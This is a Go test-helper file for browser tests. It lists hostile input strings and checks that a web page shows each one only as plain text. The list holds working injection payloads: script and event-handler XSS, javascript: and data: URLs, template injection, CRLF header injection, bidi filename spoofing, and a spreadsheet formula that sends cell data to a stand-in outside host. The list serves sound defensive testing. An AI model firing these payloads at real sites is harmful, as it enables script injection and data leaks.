package browser

import (
	"context"
	_ "embed" // the function that runs in the page
	"errors"
	"strings"
	"unicode"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// alarm is the function that hostile text tries to call. Every page has it, and a call of it is a complaint.
const alarm = "__xss"

//go:embed js/harm.js
var harm string

// Text is hostile: it must come out of the page as it went in, as text.
type Text struct {
	Name string // for the test's output, without white space
	Text string
}

// Hostile gives texts that become markup, script, a request or a broken page wherever text is taken for something else.
// All are valid UTF-8, and each says who it is when it runs. Elements and attributes that they make are called data-xss, so
// that [Page.Harmless] finds those that the page's policy kept from running.
func Hostile() []Text {
	return []Text{
		{"script", `<script data-xss>__xss("script")</script>`},
		{"script-end", `</script><script data-xss>__xss("script-end")</script>`},
		{"style-end", `</style><b data-xss>__xss</b>`},
		{"textarea-end", `</textarea></title><b data-xss onclick="__xss('textarea-end')">b</b>`},
		{"json-script", `"}</script><script data-xss>__xss("json-script")//`},
		{"image", `<img data-xss src=x onerror="__xss('image')">`},
		{"image-elsewhere", `<img data-xss src="https://stranger.invalid/pixel.png">`},
		{"svg", `<svg data-xss onload="__xss('svg')"><animate onbegin="__xss('svg')" attributeName=x dur=1s>`},
		{"svg-script", `<svg data-xss><script>__xss("svg-script")</script><a xlink:href="javascript:__xss('svg-script')"><text y=20>a</text></a></svg>`},
		{"math", `<math data-xss><mtext><table><mglyph><style><img src=x onerror="__xss('math')">`},
		{"frame", `<iframe data-xss srcdoc="<script>parent.__xss('frame')</script>"></iframe>`},
		{"form", `<form data-xss action="https://stranger.invalid/"><input type=image src=x formaction="javascript:__xss('form')"></form>`},
		{"details", `<details data-xss open ontoggle="__xss('details')">d</details>`},
		{"autofocus", `<input data-xss autofocus onfocus="__xss('autofocus')">`},
		{"refresh", `<meta data-xss http-equiv=refresh content="0;url=https://stranger.invalid/">`},
		{"base", `<base data-xss href="https://stranger.invalid/">`},
		{"stylesheet", `<link data-xss rel=stylesheet href="https://stranger.invalid/a.css"><style data-xss>*{display:none}</style>`},
		{"comment", `<!--><img data-xss src=x onerror="__xss('comment')">-->`},
		{"cdata", `<![CDATA[<b data-xss>]]>`},
		{"attribute-double", `" data-xss onmouseover="__xss('attribute-double')" autofocus onfocus="__xss('attribute-double')`},
		{"attribute-single", `' data-xss onmouseover='__xss("attribute-single")' autofocus onfocus='__xss("attribute-single")`},
		{"attribute-bare", `x data-xss onfocus=__xss('attribute-bare') autofocus`},
		{"style-attribute", `x" style="position:fixed;inset:0" data-xss="`},
		{"url-javascript", `javascript:__xss('url-javascript')`},
		{"url-javascript-hidden", "\x01 jAvA\tscr\nipt:__xss('url-javascript-hidden')"},
		{"url-javascript-slashes", `javascript://example.com/%0A__xss('url-javascript-slashes')`},
		{"url-data", `data:text/html,<script>opener.__xss('url-data')</script>`},
		{"url-credentials", `https://callboard.example@stranger.invalid/`},
		{"url-protocol-relative", `//stranger.invalid/a.js`},
		{"template-braces", `{{constructor.constructor('__xss("template-braces")')()}}`},
		{"template-dollar", "${__xss('template-dollar')}`+__xss('template-dollar')+`"},
		{"template-svelte", `{@html '<b data-xss>'}{#if __xss('template-svelte')}{/if}`},
		{"javascript-string", `');__xss('javascript-string');//`},
		{"javascript-lines", "\u2028__xss('javascript-lines')\u2029"},
		{"entities", `&lt;b data-xss&gt;&#60;b data-xss&#62;&amp;&quot;&#x27;`},
		{"percent", `%3Cscript data-xss%3E__xss('percent')%3C/script%3E`},
		{"proto", `__proto__`},
		{"constructor", `constructor`},
		{"markdown", `[a](javascript:__xss('markdown')) ![i](https://stranger.invalid/i.png) <b data-xss>`},
		{"csv-formula", `=HYPERLINK("https://stranger.invalid/?"&A1,"a")`},
		{"terminal", "\x1b[31mred\x1b]8;;https://stranger.invalid/\x07"},
		{"line-breaks", "first\r\nSet-Cookie: xss=1\r\n\r\n<b data-xss>"},
		{"bidi-override", "abc\u202Egnp.exe\u202C \u2066\u2067def\u2069"},
		{"bidi-unclosed", "\u202E\u2067never closed"},
		{"invisible", "a\u200Bd\u200Cm\u200Di\u2060n\uFEFF\u00AD"},
		{"combining", "Z" + strings.Repeat("\u0334\u035C\u0489", 60)},
		{"wide", "﷽𒐫꧅ 👩‍👩‍👧‍👦 𝕏"},
		{"unassigned", "\uFDD0\uFFFE\U0010FFFF\uE000"},
		{"long-word", strings.Repeat("W", 500)},
		{"long-path", "https://example.com/" + strings.Repeat("a/", 400)},
		{"many-spaces", "a" + strings.Repeat(" ", 300) + "b"},
		{"nul", "before\x00<b data-xss>after"},
	}
}

// HostileWithout is Hostile for a field that refuses some characters, such as "\x00\r\n" for a header's value.
func HostileWithout(refused string) []Text {
	var out []Text
	for _, text := range Hostile() {
		if !strings.ContainsAny(text.Text, refused) {
			out = append(out, text)
		}
	}
	return out
}

// Harmless waits until the page holds all the texts, as text or as what stands in a field, and fails the test if any text on
// it became anything else: an element, an attribute, an address that runs, a request, a script, a violation of the policy.
func (p *Page) Harmless(texts ...Text) {
	p.t.Helper()
	for _, text := range texts {
		p.await("the hostile text "+text.Name, func(ctx context.Context) error {
			shown, err := chromedp.Run(ctx, chromedp.Evaluate[string](held))
			if err == nil && !strings.Contains(bare(shown), bare(text.Text)) {
				return errors.New("the page does not hold it letter by letter")
			}
			return err
		})
	}
	for _, problem := range p.Harm() {
		p.t.Errorf("%s: %s", p.URL(), problem)
	}
	for _, complaint := range p.Complaints() {
		p.t.Errorf("%s: %s", p.URL(), complaint)
	}
}

// held is all text of a page, hidden or not.
const held = `[document.body.textContent, ...[...document.querySelectorAll('input, textarea')].map((e) => e.value)].join('\n')`

// bare leaves out what fields and layouts may change: white space and control characters.
func bare(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || r == '\uFFFD' {
			return -1
		}
		return r
	}, text)
}

// Harm finds what [Page.Harmless] fails for in the document itself.
func (p *Page) Harm() []string {
	p.t.Helper()
	var found []string
	p.await("the document to search", func(ctx context.Context) error {
		world, err := isolated(ctx)
		if err != nil {
			return err
		}
		document, err := chromedp.Call(ctx, runtime.Evaluate,
			runtime.EvaluateParams{Expression: "document", ContextID: world, ObjectGroup: objectGroup})
		if err != nil {
			return err
		}
		found, err = call[[]string](ctx, document.Result.ObjectID, harm)
		return err
	})
	return found
}

// Fits fails the test if the page is wider than the window, so that it has to be scrolled sideways.
func (p *Page) Fits() {
	p.t.Helper()
	type widths struct{ Content, Window int }
	w := Eval[widths](p, `({Content: document.scrollingElement.scrollWidth, Window: document.documentElement.clientWidth})`)
	if w.Content > w.Window {
		widest := Eval[string](p, `(() => {
			const out = [...document.body.querySelectorAll('*')].filter((e) => e.getBoundingClientRect().right > innerWidth + 1)
			return out.slice(0, 5).map((e) => '<' + e.localName + ' class="' + e.className + '">').join(', ')
		})()`)
		p.t.Errorf("%s is %d px wide in a window of %d: %s", p.URL(), w.Content, w.Window, widest)
	}
}
